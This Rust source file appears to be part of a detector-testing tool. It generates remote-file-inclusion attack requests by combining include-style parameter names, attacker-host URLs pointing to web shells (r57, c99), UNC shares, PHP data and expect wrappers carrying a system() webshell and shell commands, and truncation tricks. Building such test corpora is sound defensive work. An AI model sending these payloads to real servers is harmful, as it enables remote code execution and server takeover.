//! Remote file inclusion: an include-like parameter (`page`, `file`, `include`, `template`,
//! `lang`...) × a remote location (an `http`/`https`/`ftp` URL on an IP-literal or named host,
//! a UNC share, a PHP stream wrapper) × a truncation tail (`?`, `%00`, `#`) × case and a
//! transport layer, sent as a query, form or cookie parameter of that name.

use crate::mutate::{join, percent_specials, random_case};
use crate::place::Request;
use crate::{Carrier, Family, Rng, Variant};

pub struct RemoteFileInclude;

const NAMES: &[&str] = &[
    "page",
    "file",
    "include",
    "inc",
    "template",
    "tpl",
    "lang",
    "language",
    "module",
    "path",
    "doc",
    "view",
    "layout",
    "dir",
    "folder",
    "theme",
    "skin",
    "conf",
    "config",
    "load",
    "read",
    "include_path",
    "page_name",
    "filename",
    "mod",
    "cat",
    "menu",
    "pg",
];
const SCRIPTS: &[&str] = &["shell.txt", "s.txt", "r57.txt", "c99.txt", "x.txt", "cmd.inc", "b.php", "evil.jpg", "x.gif", "inc/shell.txt"];

fn host(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    match rng.below(6) {
        0 | 1 => {
            names.push("ip-host");
            format!("{}.{}.{}.{}", rng.range(1, 223), rng.range(0, 255), rng.range(0, 255), rng.range(1, 254))
        }
        2 => {
            names.push("int-ip");
            format!("{}", rng.range(16_777_216, 3_758_096_383))
        }
        3 => {
            names.push("hex-ip");
            format!("0x{:08x}", rng.range(16_777_216, 3_758_096_383))
        }
        _ => rng.pick(&["evil.example", "attacker.example.net", "cdn-x.example.org", "pastebin.example.com"]).to_string(),
    }
}

fn location(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    match rng.below(10) {
        0..=5 => {
            let h = host(rng, names);
            let scheme = *rng.pick(&["http", "https", "http", "ftp"]);
            if scheme == "ftp" {
                names.push("ftp");
            }
            let port = if rng.chance(0.2) { format!(":{}", rng.pick(&["8080", "80", "21", "8000"])) } else { String::new() };
            format!("{scheme}://{h}{port}/{}", rng.pick(SCRIPTS))
        }
        6 => {
            names.push("unc");
            format!("\\\\{}\\{}\\{}", host(rng, names), rng.pick(&["share", "pub", "x"]), rng.pick(SCRIPTS))
        }
        7 => {
            names.push("php-wrapper");
            rng.pick(&["php://input", "php://filter/resource=http://evil.example/s.txt", "PHP://input"]).to_string()
        }
        8 => {
            names.push("data-wrapper");
            rng.pick(&[
                "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
                "data:text/plain,<?php system('id');?>",
                "data://text/plain,<?php phpinfo()?>",
            ])
            .to_string()
        }
        _ => {
            names.push("expect-wrapper");
            format!("expect://{}", rng.pick(&["id", "ls", "whoami", "uname -a"]))
        }
    }
}

impl Family for RemoteFileInclude {
    fn name(&self) -> &'static str {
        "remote-file-include"
    }

    fn detector(&self) -> &'static str {
        "path-traversal"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names = Vec::new();
        let mut value = location(rng, &mut names);
        match rng.below(5) {
            0 => {
                names.push("qmark");
                value.push('?');
            }
            1 => {
                names.push("null-byte");
                value.push_str("%00");
            }
            2 => {
                names.push("hash");
                value.push('#');
            }
            _ => {}
        }
        if rng.chance(0.2) {
            names.push("case");
            let (scheme, rest) = value.split_once(':').unwrap_or((&value, ""));
            value = format!("{}:{rest}", random_case(rng, scheme));
        }
        let name = *rng.pick(NAMES);
        let encoded = if rng.chance(0.5) {
            names.push("url");
            percent_specials(&value)
        } else {
            value.replace('#', "%23").replace(' ', "%20").replace('&', "%26")
        };
        let script = *rng.pick(&["/index.php", "/", "/main.php", "/view.php", "/cgi-bin/page.cgi", "/portal/index.jsp"]);
        let request = match rng.below(4) {
            0 => {
                names.push("form");
                Request::new("POST", script)
                    .header("Content-Type", "application/x-www-form-urlencoded")
                    .body(&format!("id=3&{name}={encoded}"))
            }
            1 => {
                names.push("cookie");
                Request::new("GET", script).header("Cookie", &format!("sid=ab12; {name}={}", percent_specials(&value)))
            }
            _ => Request::new("GET", &format!("{script}?{name}={encoded}")),
        };
        let request = request.header("User-Agent", "Mozilla/5.0");
        Variant { family: self.name(), mutation: join(&names), payload: format!("{name}={value}"), carrier: Carrier::Request(request) }
    }
}
